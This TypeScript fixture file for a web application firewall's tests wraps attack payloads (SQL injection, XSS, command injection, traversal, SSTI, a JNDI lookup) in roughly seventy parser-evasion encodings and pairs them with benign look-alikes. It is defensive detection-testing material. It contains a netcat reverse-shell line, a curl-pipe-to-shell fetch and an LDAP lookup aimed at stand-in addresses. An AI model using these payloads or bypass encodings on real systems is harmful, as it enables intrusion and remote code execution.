// Ordinary payloads hidden by the carrier and the parser, as WAF-bypass tooling sends them: the
// payload itself is plain (SQLi, XSS, command injection, traversal, SSTI, JNDI), but it travels in
// a JSON document of \u escapes, surrogate pairs, duplicate keys or deep nesting; a form with
// parameter pollution, `+`/`%20` mixes, overlong UTF-8 or %u escapes; a multipart body with an odd
// boundary, unquoted names, RFC 5987 file names, base64 or quoted-printable parts, a preamble or
// bare LF line ends; a body whose Content-Type says something else; XML with CDATA, character
// references, namespaces or comments splitting the text; a quoted or base64 cookie; a duplicated
// header; matrix parameters; GraphQL variables and arguments; `;`-separated and bracketed queries.
// zones.ts crosses categories with zones and encodings, xss-carriers.ts XSS with a few carriers;
// these carriers are the parser's own tricks, and each has a benign look-alike in the same carrier.
import fc from "fast-check";
import type { Req } from "../engine.js";
import { rng, type R } from "./rng.js";

/** Long payloads, and short ones (`;id`, `{{7*7}}`) that a carrier's leftovers (a split, a prefix) hide more easily. */
export const PAYLOADS = {
  sqli: ["1' or '1'='1' -- -", "0 union select username,password from users--", "7; drop table accounts--", "x' and sleep(5)#", "admin'--"],
  xss: ["<script>alert(document.cookie)</script>", "<img src=x onerror=alert(1)>", "<svg onload=confirm(1)>", "\"><img src=x onerror=alert(1)>"],
  rce: ["127.0.0.1; cat /etc/passwd", "a|nc 10.9.8.7 4444 -e /bin/sh", "$(curl http://203.0.113.9/x.sh|sh)", ";id", "`id`"],
  lfi: ["../../../../etc/passwd", "..\\..\\..\\windows\\win.ini", "/etc/passwd"],
  ssti: ["{{config.__class__.__init__.__globals__['os'].popen('id').read()}}", "${T(java.lang.Runtime).getRuntime().exec('id')}", "{{7*7}}", "<%= 7*7 %>"],
  jndi: ["${jndi:ldap://203.0.113.9:1389/a}"],
};
const ALL = Object.values(PAYLOADS).flat();

/** Benign values with the punctuation of the payloads: quotes, `<`, `;`, pipes, dots, braces. */
export const LOOKALIKES = [
  "O'Reilly & Sons; est. 1998", "select a plan -- then pay", "price < 10 and > 5", "rock | pop | jazz",
  "see ../docs/intro.md", "Hello {name}, your order #42", "C:\\Users\\anna\\Documents", "drop-off at 5pm; union station",
  "cost: $(varies)", "a <b> tag looks like this", "1/2 cup sugar, 3/4 cup flour", "\"quoted\" text, with 'both' kinds",
];

export const CARRIERS = [
  // JSON
  "json-u-all", "json-surrogate", "json-dup-keys", "json-deep", "json-key-escaped", "json-array-mixed", "json-bom", "json-solidus", "json-lenient", "json-lone-surrogate", "json-utf16", "json-escaped-blanks",
  // urlencoded
  "form-hpp", "form-plus-mix", "form-overlong", "form-percent-u", "form-double", "form-charset", "form-brackets", "form-name-brackets", "form-utf16", "form-tab",
  // multipart
  "mp-quoted-boundary", "mp-boundary-first", "mp-unquoted-name", "mp-filename-star", "mp-base64", "mp-qp", "mp-preamble", "mp-lf", "mp-json-part", "mp-header-case", "mp-dup-name-param", "mp-boundary-space", "mp-part-utf16", "mp-nested", "mp-dup-boundary",
  // Content-Type mismatches
  "json-as-text", "json-no-type", "form-as-json", "json-vnd", "json-merge-patch", "json-upper-type", "xml-text-type", "xml-soap12", "json-as-form", "xml-as-json",
  // XML
  "xml-cdata-split", "xml-charrefs", "xml-namespaced", "xml-comment-split", "xml-attr-charrefs", "xml-internal-entity", "xml-pi-split", "xml-utf16",
  // headers and cookies
  "cookie-quoted", "cookie-base64-json", "header-dup", "cookie-dup", "cookie-escaped-quote",
  // path and query
  "path-matrix", "path-encoded-slash", "query-semicolon", "query-brackets", "query-hpp", "path-matrix-traversal", "path-double-encoded", "query-array", "query-bare",
  // GraphQL
  "graphql-vars", "graphql-inline-escaped", "graphql-body", "graphql-get", "graphql-block-string", "graphql-batch",
] as const;
export type Carrier = (typeof CARRIERS)[number];

const host: [string, string] = ["host", "svc.local"];
const pickR = <T>(r: R, xs: readonly T[]): T => xs[r(xs.length)];
const hex = (n: number, w: number) => n.toString(16).padStart(w, "0");
const utf8 = (s: string) => [...Buffer.from(s, "utf8")];
const alnum = (c: string) => /[A-Za-z0-9]/.test(c);
/** Every character as a JSON \u escape, the letters in random case of the hex digits. */
const uAll = (s: string, r: R) => [...s].map((c) => { const e = hex(c.charCodeAt(0), 4); return "\\u" + (r(2) ? e.toUpperCase() : e); }).join("");
/** Percent-encodes what a form value must, a blank as `+` or `%20` at random. */
const formEnc = (s: string, r: R) => utf8(s).map((b) => { const c = String.fromCharCode(b); if (b === 0x20) return r(2) ? "+" : "%20"; return b < 0x20 || b >= 0x7f || "&=+%#;".includes(c) ? "%" + hex(b, 2).toUpperCase() : c; }).join("");
const pctAll = (s: string) => utf8(s).map((b) => (alnum(String.fromCharCode(b)) ? String.fromCharCode(b) : "%" + hex(b, 2).toUpperCase())).join("");
const b64 = (s: string) => Buffer.from(s, "utf8").toString("base64");
/** Quoted-printable (RFC 2045): `=`, non-ASCII and some punctuation as `=XX`, soft breaks every 20 characters. */
function qp(s: string): string {
  let out = "";
  let line = 0;
  for (const b of utf8(s)) {
    const c = String.fromCharCode(b);
    const enc = b === 0x3d || b >= 0x7f || b < 0x20 || "<>'\"".includes(c) ? "=" + hex(b, 2).toUpperCase() : c;
    if (line + enc.length > 20) { out += "=\r\n"; line = 0; }
    out += enc;
    line += enc.length;
  }
  return out;
}
const xmlEsc = (s: string) => s.replace(/&/g, "&amp;").replace(/</g, "&lt;").replace(/>/g, "&gt;");
const charRefs = (s: string, r: R) => [...s].map((c) => (alnum(c) || c === " " ? c : r(2) ? `&#${c.charCodeAt(0)};` : `&#x${hex(c.charCodeAt(0), 2)};`)).join("");
/** The text split in two around a point that is not inside a `&...;` reference. */
const half = (s: string) => Math.max(1, Math.floor(s.length / 2));
const json = (type: string, body: string, path = "/api/v1/items"): Req => ({ method: "POST", path, headers: [host, ["content-type", type]], body });
const form = (body: string, type = "application/x-www-form-urlencoded"): Req => ({ method: "POST", path: "/app/submit", headers: [host, ["content-type", type]], body });
const mp = (boundaryParam: string, body: string): Req => ({ method: "POST", path: "/upload", headers: [host, ["content-type", `multipart/form-data; ${boundaryParam}`]], body });
const xml = (type: string, body: string): Req => ({ method: "POST", path: "/api/import", headers: [host, ["content-type", type]], body });

/** The request that carries `v` in carrier `c`; `r` draws the names and the small choices. */
export function carry(v: string, c: Carrier, r: R): Req {
  const name = pickR(r, ["q", "comment", "title", "filter", "host", "path", "note"]);
  const jv = JSON.stringify(v);
  switch (c) {
    case "json-u-all": return json("application/json", `{"lang":"en","${name}":"${uAll(v, r)}"}`);
    // an astral character (a surrogate pair in JSON) in the key and the value beside the payload
    case "json-surrogate": return json("application/json", `{"\\ud83d\\ude00":"\\ud83d\\ude00","${name}":${jv},"n":1}`);
    // most JSON parsers keep the last of duplicate keys: the first is the decoy
    case "json-dup-keys": return json("application/json", `{"${name}":"hello","id":3,"${name}":${jv}}`);
    case "json-deep": {
      const depth = 20 + r(30);
      let doc = jv;
      for (let k = 0; k < depth; k++) doc = r(2) ? `{"a${k}":${doc}}` : `[${doc}]`;
      return json("application/json", doc);
    }
    case "json-key-escaped": return json("application/json", `{"data":{"${uAll(v, r)}":true}}`);
    case "json-array-mixed": return json("application/json", `{"ids":[1,2.5e3,-7],"ok":true,"${name}":[null,false,${jv},0]}`);
    case "json-bom": return { method: "POST", path: "/api/v1/items", headers: [host, ["content-type", "application/json"]], body: new Uint8Array([0xef, 0xbb, 0xbf, ...utf8(`{"${name}":${jv}}`)]) };
    // `\/` is a valid JSON escape for `/`
    case "json-solidus": return json("application/json", `{"${name}":${jv.replace(/\//g, "\\/")}}`);

    // JSON as lenient parsers (JSON5, Jackson's ALLOW_COMMENTS, ...) take it: a comment, a trailing comma, \u escapes
    case "json-lenient": return json("application/json", `{/* v2 */ "lang": 'en', "${name}": "${uAll(v, r)}",}`);
    // a lone high surrogate (an invalid escape most decoders replace) in the member before the payload's
    case "json-lone-surrogate": return json("application/json", `{"a\\ud800":"\\udc00x","${name}":${jv}}`);
    case "json-utf16": return { method: "POST", path: "/api/v1/items", headers: [host, ["content-type", "application/json; charset=utf-16le"]], body: new Uint8Array(Buffer.from(`{"${name}":${jv}}`, "utf16le")) };
    // blanks as JSON escapes: SQL, HTML and shells read a tab as a blank
    case "json-escaped-blanks": return json("application/json", `{"${name}":${jv.replace(/ /g, "\\t")}}`);

    // parameter pollution: a benign first value, the payload in the second
    case "form-hpp": return form(`${name}=hello&lang=en&${name}=${formEnc(v, r)}`);
    case "form-plus-mix": return form(`lang=en&${name}=${formEnc(v, r)}`);
    case "form-overlong": return form(`${name}=` + utf8(v).map((b) => (alnum(String.fromCharCode(b)) ? String.fromCharCode(b) : `%${hex(0xc0 | (b >> 6), 2).toUpperCase()}%${hex(0x80 | (b & 0x3f), 2).toUpperCase()}`)).join(""));
    case "form-percent-u": return form(`${name}=` + [...v].map((ch) => (alnum(ch) ? ch : (r(2) ? "%u" : "%U") + hex(ch.charCodeAt(0), 4).toUpperCase())).join(""));
    case "form-double": return form(`${name}=` + pctAll(v).replace(/%/g, "%25"));
    case "form-charset": return form(`${name}=${formEnc(v, r)}`, pickR(r, ["application/x-www-form-urlencoded; charset=UTF-8", "application/x-www-form-urlencoded;charset=utf-8", "Application/X-WWW-Form-Urlencoded"]));
    case "form-brackets": return form(`user[profile][${name}]=${formEnc(v, r)}&tags[]=a&tags[]=b`);
    case "form-name-brackets": return form(`lang=en&filter[${formEnc(v, r)}]=1`);
    case "form-utf16": return { method: "POST", path: "/app/submit", headers: [host, ["content-type", "application/x-www-form-urlencoded; charset=utf-16le"]], body: new Uint8Array(Buffer.from(`${name}=${formEnc(v, r)}`, "utf16le")) };
    case "form-tab": return form(`${name}=${formEnc(v, r).replace(/\+|%20/g, "%09")}`);

    case "mp-quoted-boundary": return mp(`boundary="a'b(c)d+e_f"`, `--a'b(c)d+e_f\r\nContent-Disposition: form-data; name="${name}"\r\n\r\n${v}\r\n--a'b(c)d+e_f--\r\n`);
    // the boundary parameter after another, a boundary that looks like a part header
    case "mp-boundary-first": return { method: "POST", path: "/upload", headers: [host, ["content-type", "multipart/form-data; charset=utf-8; boundary=----=_Part_7_1.2"]], body: `------=_Part_7_1.2\r\nContent-Disposition: form-data; name="${name}"\r\n\r\n${v}\r\n------=_Part_7_1.2--\r\n` };
    case "mp-unquoted-name": return mp("boundary=zz", `--zz\r\ncontent-disposition: form-data; name=${name}\r\n\r\n${v}\r\n--zz--\r\n`);
    case "mp-filename-star": return mp("boundary=zz", `--zz\r\nContent-Disposition: form-data; name="file"; filename*=UTF-8''${pctAll(v)}\r\nContent-Type: text/plain\r\n\r\nhello\r\n--zz--\r\n`);
    case "mp-base64": return mp("boundary=zz", `--zz\r\nContent-Disposition: form-data; name="${name}"\r\nContent-Transfer-Encoding: base64\r\n\r\n${b64(v)}\r\n--zz--\r\n`);
    case "mp-qp": return mp("boundary=zz", `--zz\r\nContent-Disposition: form-data; name="${name}"\r\nContent-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: quoted-printable\r\n\r\n${qp(v)}\r\n--zz--\r\n`);
    case "mp-preamble": return mp("boundary=zz", `This is a multi-part message in MIME format.\r\n--zz\r\nContent-Disposition: form-data; name="lang"\r\n\r\nen\r\n--zz\r\nContent-Disposition: form-data; name="${name}"\r\n\r\n${v}\r\n--zz--\r\nepilogue text\r\n`);
    case "mp-lf": return mp("boundary=zz", `--zz\nContent-Disposition: form-data; name="${name}"\n\n${v}\n--zz--\n`);
    case "mp-json-part": return mp("boundary=zz", `--zz\r\nContent-Disposition: form-data; name="meta"\r\nContent-Type: application/json\r\n\r\n{"${name}":${jv.replace(/</g, "\\u003c")}}\r\n--zz--\r\n`);
    case "mp-header-case": return mp("BOUNDARY=zz", `--zz\r\nCONTENT-DISPOSITION:form-data;NAME="${name}"\r\n\r\n${v}\r\n--zz--\r\n`);
    // two name parameters: parsers keep the first or the last
    case "mp-dup-name-param": return mp("boundary=zz", `--zz\r\nContent-Disposition: form-data; name="lang"; name="${name}"\r\n\r\n${v}\r\n--zz--\r\n`);
    case "mp-boundary-space": return mp("boundary=zz ", `--zz\r\nContent-Disposition: form-data; name="${name}"\r\n\r\n${v}\r\n--zz--\r\n`);
    case "mp-part-utf16": return { method: "POST", path: "/upload", headers: [host, ["content-type", "multipart/form-data; boundary=zz"]], body: new Uint8Array([...utf8(`--zz\r\nContent-Disposition: form-data; name="${name}"\r\nContent-Type: text/plain; charset=utf-16le\r\n\r\n`), ...Buffer.from(v, "utf16le"), ...utf8("\r\n--zz--\r\n")]) };
    // RFC 2388's multipart/mixed inside a part
    case "mp-nested": return mp("boundary=outer", `--outer\r\nContent-Disposition: form-data; name="${name}"\r\nContent-Type: multipart/mixed; boundary=inner\r\n\r\n--inner\r\nContent-Disposition: attachment; name="x"\r\n\r\n${v}\r\n--inner--\r\n--outer--\r\n`);
    // two boundary parameters: parsers take the first or the last
    case "mp-dup-boundary": return mp("boundary=first; boundary=second", `--second\r\nContent-Disposition: form-data; name="${name}"\r\n\r\n${v}\r\n--second--\r\n`);

    case "json-as-text": return json(pickR(r, ["text/plain", "text/plain; charset=utf-8"]), `{"${name}":${jv}}`);
    case "json-no-type": return { method: "POST", path: "/api/v1/items", headers: [host], body: `{"${name}":${jv}}` };
    case "form-as-json": return json("application/json", `lang=en&${name}=${formEnc(v, r)}`);
    case "json-vnd": return json("application/vnd.api+json", `{"data":{"type":"notes","attributes":{"${name}":${jv}}}}`);
    case "json-merge-patch": return { method: "PATCH", path: "/api/v1/items/7", headers: [host, ["content-type", "application/merge-patch+json"]], body: `{"${name}":${jv},"old":null}` };
    case "json-upper-type": return json(pickR(r, ["APPLICATION/JSON", "application/json;charset=UTF-8", "application/json ; charset=\"utf-8\""]), `{"${name}":${jv}}`);
    case "xml-text-type": return xml("text/xml; charset=utf-8", `<?xml version="1.0" encoding="UTF-8"?><req><${name}>${xmlEsc(v)}</${name}></req>`);
    case "xml-soap12": return xml("application/soap+xml; charset=utf-8; action=\"urn:find\"", `<env:Envelope xmlns:env="http://www.w3.org/2003/05/soap-envelope"><env:Body><f:Find xmlns:f="urn:svc"><f:${name}>${xmlEsc(v)}</f:${name}></f:Find></env:Body></env:Envelope>`);
    case "json-as-form": return form(`{"${name}":${jv}}`);
    case "xml-as-json": return json("application/json", `<req><${name}>${xmlEsc(v)}</${name}></req>`);

    case "xml-cdata-split": { const k = half(v); return xml("application/xml", `<req><${name}><![CDATA[${v.slice(0, k)}]]><![CDATA[${v.slice(k)}]]></${name}></req>`); }
    case "xml-charrefs": return xml("application/xml", `<req><${name}>${charRefs(v, r)}</${name}></req>`);
    case "xml-namespaced": return xml("application/xml", `<a:req xmlns:a="urn:x" xmlns:b="urn:y"><b:${name} b:lang="en">${xmlEsc(v)}</b:${name}></a:req>`);
    case "xml-comment-split": { const k = half(v); return xml("application/xml", `<req><${name}>${xmlEsc(v.slice(0, k))}<!-- x -->${xmlEsc(v.slice(k))}</${name}></req>`); }
    case "xml-attr-charrefs": return xml("application/xml", `<req><item ${name}='${charRefs(v, r)}'/></req>`);
    // an internal entity (no external fetch): the parser expands it where it is referenced
    case "xml-internal-entity": return xml("application/xml", `<?xml version="1.0"?><!DOCTYPE req [<!ENTITY v "${charRefs(v, r).replace(/"/g, "&#34;")}">]><req><${name}>&v;</${name}></req>`);
    case "xml-pi-split": { const k = half(v); return xml("application/xml", `<req><${name}>${xmlEsc(v.slice(0, k))}<?x y?>${xmlEsc(v.slice(k))}</${name}></req>`); }
    case "xml-utf16": return { method: "POST", path: "/api/import", headers: [host, ["content-type", "application/xml"]], body: new Uint8Array([0xff, 0xfe, ...Buffer.from(`<?xml version="1.0" encoding="UTF-16"?><req><${name}>${xmlEsc(v)}</${name}></req>`, "utf16le")]) };

    // RFC 6265 allows a DQUOTE-wrapped value; a blank or a comma needs escaping in most frameworks
    case "cookie-quoted": return { path: "/app/home", headers: [host, ["cookie", `sid=ab12; ${name}="${v.replace(/[;"\\]/g, (x) => "%" + hex(x.charCodeAt(0), 2))}"`]] };
    case "cookie-base64-json": return { path: "/app/home", headers: [host, ["cookie", `sid=ab12; prefs=${b64(JSON.stringify({ theme: "dark", [name]: v }))}`]] };
    // the same header twice: a benign first value, the payload in the second
    case "header-dup": return { path: "/app/home", headers: [host, ["x-search", "hello"], ["accept", "*/*"], ["x-search", v.replace(/[\r\n]/g, " ")]] };
    case "cookie-dup": return { path: "/app/home", headers: [host, ["cookie", "sid=ab12"], ["cookie", `${name}=${formEnc(v, r).replace(/\+/g, "%20")}`]] };
    case "cookie-escaped-quote": return { path: "/app/home", headers: [host, ["cookie", `sid=ab12; ${name}="${v.replace(/[\\"]/g, (x) => "\\" + x).replace(/;/g, "\\073")}"`]] };

    case "path-matrix": return { path: `/app;jsessionid=AB12/items;${name}=${pctAll(v)}/view`, headers: [host] };
    case "path-encoded-slash": return { path: `/files/${pctAll(v)}`, headers: [host] };
    case "query-semicolon": return { path: `/app/view?lang=en;${name}=${formEnc(v, r)};page=2`, headers: [host] };
    case "query-brackets": return { path: `/app/view?filter[${name}][eq]=${formEnc(v, r)}&ids[]=1&ids[]=2`, headers: [host] };
    case "query-hpp": return { path: `/app/view?${name}=hello&${name}=${formEnc(v, r)}`, headers: [host] };
    // a matrix parameter on every segment (Tomcat, Spring drop them before routing)
    case "path-matrix-traversal": return { path: "/static/" + v.split(/([/\\])/).map((seg) => (seg === "/" ? seg : seg === "\\" ? "%5C" : seg === "" ? "" : `${pctAll(seg)};v=1`)).join(""), headers: [host] };
    case "path-double-encoded": return { path: `/files/${pctAll(v).replace(/%/g, "%25")}`, headers: [host] };
    case "query-array": return { path: `/app/view?${name}[]=hello&${name}[]=${formEnc(v, r)}`, headers: [host] };
    // a bare argument, no `=`: frameworks keep it as a name with an empty value
    case "query-bare": return { path: `/app/view?lang=en&${formEnc(v, r).replace(/=/g, "%3D")}`, headers: [host] };

    case "graphql-vars": return json("application/json", JSON.stringify({ operationName: "Find", query: `query Find($v: String!) { items(${name}: $v) { id } }`, variables: { v } }), "/graphql");
    case "graphql-inline-escaped": return json("application/json", JSON.stringify({ query: `{ items(${name}: "${uAll(v, r)}") { id name } }` }), "/graphql");
    case "graphql-body": return { method: "POST", path: "/graphql", headers: [host, ["content-type", "application/graphql"]], body: `query { items(${name}: ${jv}, first: 5) { id } }` };
    case "graphql-get": return { path: `/graphql?query=${encodeURIComponent(`query($v:String){items(${name}:$v){id}}`)}&variables=${encodeURIComponent(JSON.stringify({ v }))}`, headers: [host] };
    case "graphql-block-string": return json("application/json", JSON.stringify({ query: `mutation { add(${name}: """${v.replace(/"""/g, '\\"""')}""") { id } }` }), "/graphql");
    case "graphql-batch": return json("application/json", JSON.stringify([{ query: "{ me { id } }" }, { query: "query($v:String){items(q:$v){id}}", variables: { v } }]), "/graphql");
  }
}

/**
 * Carriers that break a protocol rule by themselves, whatever they carry: the engine blocks them at the
 * default configuration (a look-alike in them is blocked too), so the payload must also be found with the
 * protocol rules off. Overlong UTF-8 (1044), double percent-encoding (1043), a charset outside the
 * usual (1012), a part's Content-Transfer-Encoding (1104) or charset (1103), `filename*` (RFC 7578
 * forbids it: 1105), a boundary parameter with a trailing blank or given twice (1011), a nested
 * multipart/mixed part (its text holds part headers: 1061), and bodies that do not parse as their Content-Type says (1100): lenient
 * JSON, a form or XML sent as JSON.
 */
export const ANOMALOUS: readonly Carrier[] = [
  "form-overlong", "form-double", "form-utf16", "json-utf16", "mp-base64", "mp-qp", "mp-part-utf16", "mp-filename-star",
  "mp-boundary-space", "mp-dup-boundary", "mp-nested", "json-lenient", "form-as-json", "xml-as-json",
];

export const carried = (payloads: readonly string[]): fc.Arbitrary<{ value: string; carrier: Carrier; req: Req }> =>
  fc.tuple(fc.constantFrom(...payloads), fc.constantFrom(...CARRIERS), fc.nat()).map(([value, carrier, seed]) => ({ value, carrier, req: carry(value, carrier, rng(seed)) }));

export const carriedAttack = carried(ALL);
export const carriedLookalike = carried(LOOKALIKES);

/** Every (payload, carrier) pair once, with a fixed seed per pair: the full cross for a rate. */
export function everyPair(payloads: readonly string[]): { value: string; carrier: Carrier; req: Req }[] {
  const out: { value: string; carrier: Carrier; req: Req }[] = [];
  let seed = 1;
  for (const value of payloads) for (const carrier of CARRIERS) out.push({ value, carrier, req: carry(value, carrier, rng(seed++)) });
  return out;
}
export const ATTACKS = ALL;
